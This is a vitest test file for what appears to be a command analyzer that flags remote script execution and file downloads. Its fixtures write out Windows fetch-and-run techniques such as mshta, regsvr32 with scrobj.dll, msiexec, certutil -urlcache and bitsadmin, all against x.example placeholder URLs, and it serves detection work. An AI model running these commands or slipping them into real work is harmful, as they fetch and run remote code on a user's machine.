import { describe, expect, it } from "vitest";
import { staticField, type Invocation } from "../model.js";
import { downloadedFiles } from "./downloads.js";
import { remoteScriptHost } from "./script-hosts.js";

function invocation(...argv: string[]): Invocation {
  return { name: (argv[0] ?? "").toLowerCase(), argv: argv.map((value) => staticField(value)), assignments: new Map(), redirects: [], cwd: { known: true, path: "/work/app", initial: true }, via: [], elevated: false, text: argv.join(" "), line: argv.join(" ") };
}

describe("remoteScriptHost", () => {
  it("finds the URL a Windows script host runs", () => {
    expect(remoteScriptHost(invocation("mshta", "https://x.example/a.hta"))).toBe("https://x.example/a.hta");
    expect(remoteScriptHost(invocation("regsvr32.exe", "/s", "/n", "/u", "/i:https://x.example/f.sct", "scrobj.dll"))).toBe("https://x.example/f.sct");
    expect(remoteScriptHost(invocation("msiexec", "/q", "/i", "https://x.example/a.msi"))).toBe("https://x.example/a.msi");
  });

  it("finds nothing for local files", () => {
    expect(remoteScriptHost(invocation("msiexec", "/i", "dist/app.msi", "/qn"))).toBeUndefined();
    expect(remoteScriptHost(invocation("regsvr32", "/s", "app.dll"))).toBeUndefined();
  });
});

describe("downloadedFiles on Windows", () => {
  it("names the files Windows' downloaders write", () => {
    expect(downloadedFiles(invocation("certutil", "-urlcache", "-split", "-f", "http://x.example/a.exe", "a.exe"))).toEqual(["a.exe"]);
    expect(downloadedFiles(invocation("certutil", "-hashfile", "a.zip", "SHA256"))).toEqual([]);
    expect(downloadedFiles(invocation("bitsadmin", "/transfer", "job", "/download", "https://x.example/a.exe", "C:/t/a.exe"))).toEqual(["C:/t/a.exe"]);
    expect(downloadedFiles(invocation("Invoke-WebRequest", "https://x.example/t.ps1", "-OutFile", "t.ps1"))).toEqual(["t.ps1"]);
    expect(downloadedFiles(invocation("aria2c", "-o", "tool.sh", "https://x.example/t.sh"))).toEqual(["tool.sh"]);
  });
});

describe("printsRemoteObject", () => {
  it("tells object-store reads to standard output from copies to files", async () => {
    const { printsRemoteObject } = await import("./downloads.js");
    expect(printsRemoteObject(invocation("aws", "s3", "cp", "s3://b/x.sh", "-"))).toBe(true);
    expect(printsRemoteObject(invocation("aws", "s3", "cp", "s3://b/x.json", "./x.json"))).toBe(false);
    expect(printsRemoteObject(invocation("gsutil", "cat", "gs://b/x.sh"))).toBe(true);
    expect(printsRemoteObject(invocation("gcloud", "storage", "cat", "gs://b/x.sh"))).toBe(true);
  });
});
